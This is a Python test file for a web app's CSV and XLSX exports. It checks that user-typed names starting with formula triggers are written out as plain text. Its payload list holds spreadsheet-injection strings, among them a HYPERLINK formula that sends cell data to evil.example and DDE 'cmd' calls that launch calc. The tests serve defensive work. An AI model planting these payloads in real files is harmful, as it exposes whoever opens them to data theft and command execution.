"""Class: spreadsheet formula injection (issue 22 #12, OWASP "CSV injection").

Titles, zone and commune names are typed by people; one starting with `=`, `+`, `-`, `@`, a
tab or a carriage return became a live formula in /thong-ke.xlsx and the CSV exports. Every
such string, as hypothesis draws them, comes out of the exports as text: CSV with a leading
apostrophe, XLSX as a typed string cell; and an exported CSV imports back as typed.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from broadcaster.store.engine import Store
from broadcaster.store.models import ZoneRow
from broadcaster.web.app import create_app
from broadcaster.web.cells import TRIGGERS
from broadcaster.web.spreadsheets import read_table, to_csv, to_xlsx
from tests.web.test_stats import DAY, simulate_day
from tests.web.world import PASSWORD, build

ABUSE = settings.get_profile("abuse")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
typed = st.one_of(
    st.sampled_from(PAYLOADS),
    st.tuples(st.sampled_from(TRIGGERS), st.text(st.characters(blacklist_categories=["Cs"]), max_size=30)).map("".join),
)


def _is_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS)


@given(name=typed, other=st.text(max_size=20))
@ABUSE
def test_admin_exports_never_hold_a_formula_and_import_back_as_typed(name: str, other: str) -> None:
    row = ["loa-1", "thon-1", name]
    text = to_csv("loa", [row, ["loa-2", "thon-1", other]]).decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(text)))
    assert cells[1][2] == "'" + name and not any(_is_formula(c) for r in cells for c in r)
    parsed = read_table("loa.csv", text.encode("utf-8"), "loa")
    assert parsed.rows[0][1]["ten"] == name.strip()
    sheet = load_workbook(io.BytesIO(to_xlsx("loa", [row])))["loa"]
    cell = sheet.cell(row=2, column=3)
    assert cell.data_type == "s" and cell.value == ILLEGAL_CHARACTERS_RE.sub("\ufffd", name)


@pytest.fixture(scope="module")
def stats_world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, Store]]:
    settings_, store, approved, _draft = build(tmp_path_factory.mktemp("inject"))
    simulate_day(store, approved)
    with store.session() as s:
        zone = s.get(ZoneRow, "thon-1")
        assert zone is not None
        zone.name = PAYLOADS[0]
    client = TestClient(create_app(settings_, store))
    client.post("/dang-nhap", data={"username": "quansat", "password": PASSWORD})
    yield client, store


def test_statistics_exports_say_a_formula_as_text(stats_world: tuple[TestClient, Store]) -> None:
    client, _ = stats_world
    query = f"tu={DAY}&den={DAY}"
    rows = list(csv.reader(io.StringIO(client.get(f"/thong-ke.csv?{query}").content.decode("utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert "'" + PAYLOADS[0] in cells and not any(_is_formula(c) for c in cells)
    book = load_workbook(io.BytesIO(client.get(f"/thong-ke.xlsx?{query}").content))
    found = [c for ws in book.worksheets for r in ws.iter_rows() for c in r if c.value == PAYLOADS[0]]
    assert found and all(c.data_type == "s" for c in found)
    assert not [c for ws in book.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f"]
